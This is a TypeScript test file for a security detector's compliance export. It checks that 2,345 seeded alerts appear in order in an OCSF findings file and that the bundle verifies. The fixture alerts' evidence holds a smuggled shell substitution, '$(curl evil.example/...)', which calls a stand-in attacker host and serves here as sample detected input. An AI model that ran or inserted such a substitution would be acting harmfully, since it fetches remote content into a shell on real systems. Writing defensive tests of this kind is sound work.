import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Alert, type ExportRecord } from '@palisade/schema';
import { createStore, storeConfigFromEnv } from '@palisade/store';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runVerifyExport } from '../src/cli/verify-export.command.js';
import { verifyBundle } from '../src/exports/bundle.verifier.js';
import { PRODUCT_VERSION } from '../src/exports/export.service.js';
import { toOcsfDetectionFinding } from '../src/exports/ocsf.js';
import { type RunningDetector, startDetector } from './support/detector.harness.js';
import { quietly } from './support/quietly.js';

/** More alerts than two store pages (1,000 alerts a page), and a last page left part-full. */
const ALERTS = 2_345;
const START = Date.parse('2026-11-20T08:00:00.000Z');

/**
 * Alerts a few at the same millisecond (the store then orders them by id), with titles and summaries a
 * JSON writer must escape: line feeds, quotes, non-ASCII text.
 */
function alerts(): Alert[] {
  return Array.from({ length: ALERTS }, (_, i) =>
    Alert.parse({
      id: `alr_ocsf_${String(ALERTS - i).padStart(6, '0')}`,
      ts: new Date(START + Math.floor(i / 3) * 1000).toISOString(),
      category: i % 2 ? 'tool_poisoning' : 'command_injection',
      severity: (['low', 'medium', 'high', 'critical'] as const)[i % 4],
      title: i % 7 ? `Finding ${i}` : `Finding ${i}: "quoted"\nsecond line – ünïcode`,
      server: 'math',
      tool: i % 5 ? 'add' : null,
      sessionId: i % 3 ? `session-${i % 11}` : null,
      ruleId: 'ocsf-paging',
      evidence: { summary: `Alert ${i} of ${ALERTS}.\r\n\tIndented`, matches: [{ field: 'arguments.cmd', text: `$(curl evil.example/${i})`, signal: 'shell substitution' }] },
      eventIds: [`evt_${i}`, `evt_${i + 1}`],
      incidentId: i % 4 ? null : `inc_${i % 13}`,
    }),
  );
}

/** What the exporter wrote while it held every finding in memory: the array stringified with indent 1. */
function findingsAsBefore(list: readonly Alert[]): string {
  return `${JSON.stringify(list.map((a) => toOcsfDetectionFinding(a, PRODUCT_VERSION)), null, 1)}\n`;
}

describe('the OCSF findings file of a compliance bundle', () => {
  let detector: RunningDetector;
  let seeded: Alert[];

  beforeAll(async () => {
    const home = mkdtempSync(path.join(tmpdir(), 'palisade-export-ocsf-'));
    const store = await createStore(storeConfigFromEnv({ PALISADE_HOME: home }));
    seeded = alerts();
    await store.alerts.insertMany(seeded);
    await store.close();
    detector = await startDetector({}, { home, worker: false });
  }, 60_000);

  afterAll(async () => {
    await detector?.close();
    if (detector) rmSync(detector.home, { recursive: true, force: true });
  });

  async function exportRange(from: string, to: string): Promise<{ dir: string; record: ExportRecord }> {
    const created = await detector.api<ExportRecord>('POST', '/api/exports', { body: { from, to, format: 'ndjson' } });
    expect(created.status).toBe(201);
    return { dir: path.join(detector.home, 'exports', created.body.id), record: created.body };
  }

  it('holds every alert of several store pages once and in order, laid out as before, and verifies', { timeout: 60_000 }, async () => {
    const { dir, record } = await exportRange(new Date(START - 1000).toISOString(), new Date(START + ALERTS * 1000).toISOString());
    const text = readFileSync(path.join(dir, 'alerts.ocsf.json'), 'utf8');
    const findings = JSON.parse(text) as { class_uid: number; finding_info: { uid: string } }[];

    const ordered = [...seeded].sort((a, b) => a.ts.localeCompare(b.ts) || a.id.localeCompare(b.id));
    expect(findings.map((f) => f.finding_info.uid)).toEqual(ordered.map((a) => a.id));
    expect(findings.every((f) => f.class_uid === 2004)).toBe(true);
    expect(text).toBe(findingsAsBefore(ordered));
    // The same alerts, in the same order, as the alerts file beside it.
    const alertIds = readFileSync(path.join(dir, 'alerts.ndjson'), 'utf8').trimEnd().split('\n').map((line) => (JSON.parse(line) as Alert).id);
    expect(alertIds).toEqual(ordered.map((a) => a.id));

    const file = record.files.find((f) => f.path === 'alerts.ocsf.json');
    expect(file).toMatchObject({ records: ALERTS, bytes: Buffer.byteLength(text) });
    expect(record.progress.files.find((f) => f.path === 'alerts.ocsf.json')).toMatchObject({ records: ALERTS, estimatedRecords: ALERTS });
    expect(verifyBundle(dir).ok).toBe(true);
    expect(await quietly(() => runVerifyExport(dir))).toBe(0);
  });

  it('is an empty JSON array for a range without alerts, and verifies', async () => {
    const { dir, record } = await exportRange('2020-01-01T00:00:00.000Z', '2020-01-02T00:00:00.000Z');
    const text = readFileSync(path.join(dir, 'alerts.ocsf.json'), 'utf8');
    expect(text).toBe(findingsAsBefore([]));
    expect(JSON.parse(text)).toEqual([]);
    expect(record.files.find((f) => f.path === 'alerts.ocsf.json')).toMatchObject({ records: 0, bytes: 3 });
    expect(verifyBundle(dir).ok).toBe(true);
    expect(await quietly(() => runVerifyExport(dir))).toBe(0);
  });
});
